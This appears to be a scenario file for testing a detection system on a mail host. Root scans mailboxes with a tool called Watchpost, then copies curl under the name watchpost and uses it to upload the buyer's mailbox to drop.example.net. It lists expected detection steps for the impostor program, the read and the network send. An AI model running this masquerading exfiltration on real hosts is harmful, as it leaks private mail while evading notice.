# Watchpost reads the mail stores of this host, and its report is sent on. Later a program that calls itself watchpost sends a mailbox out.
# LAB_BRING: a folder with the built watchpost.mjs and a node of version 24.
title="Watchpost's own scan of the mail stores, then a program of the same name that sends a mailbox out"
what="root logs in over SSH, scans /var/mail with Watchpost and sends the report on with curl. In a later login root's session installs a
copy of curl under the name watchpost and sends buyer's mailbox out with it."
host=mx1.example.org user=root daemons="sshd" store=mbox

setup() {
  mkdir -p /opt/watchpost /opt/tools /srv/reports
  cp -r "$base/bring/." /opt/watchpost/
  printf '#!/bin/sh\nexec /opt/watchpost/node /opt/watchpost/watchpost.mjs "$@"\n' > /usr/local/bin/watchpost
  chmod 755 /usr/local/bin/watchpost
}
act() {
  small_talk 3
  for each in dev buyer clerk; do
    mail_in --from office@example.net --to "$each@example.org" --subject "Minutes" --source 203.0.113.25 --helo smtp.example.com --text "Hello,\n\nthe minutes.\n"
  done
  wait_mail dev 1; wait_mail buyer 1
  sleep 1
  ssh_as root <<'L'
cd /srv/reports
watchpost scan /var/mail --state /var/lib/watchpost --format json -o /srv/reports/r.json -q
%sleep 4
curl -s -T /srv/reports/r.json http://drop.example.net/reports/
%sleep 2
L
  sleep 3
  ssh_as root <<'L'
cd /srv/reports
cp /usr/bin/curl /opt/tools/watchpost
%sleep 1
/opt/tools/watchpost -s -T /var/mail/buyer http://drop.example.net/b
%sleep 2
L
  small_talk 1
  keep /var/lib/watchpost/runs.ndjson
}
truth() {
  file_step own-read 'node open(at)?:read NORMAL /var/mail/buyer' 'Watchpost reads the mailbox'
  exec_step report 'curl -s -T /srv/reports/r.json' 'its report is sent on'
  exec_step impostor '/opt/tools/watchpost -s -T /var/mail/buyer' 'a program called watchpost is started on the mailbox'
  file_step read 'watchpost open(at)?:read NORMAL /var/mail/buyer' 'it reads the mailbox'
  net_step sent 'watchpost 203.0.113.' 'and sends it out'
}
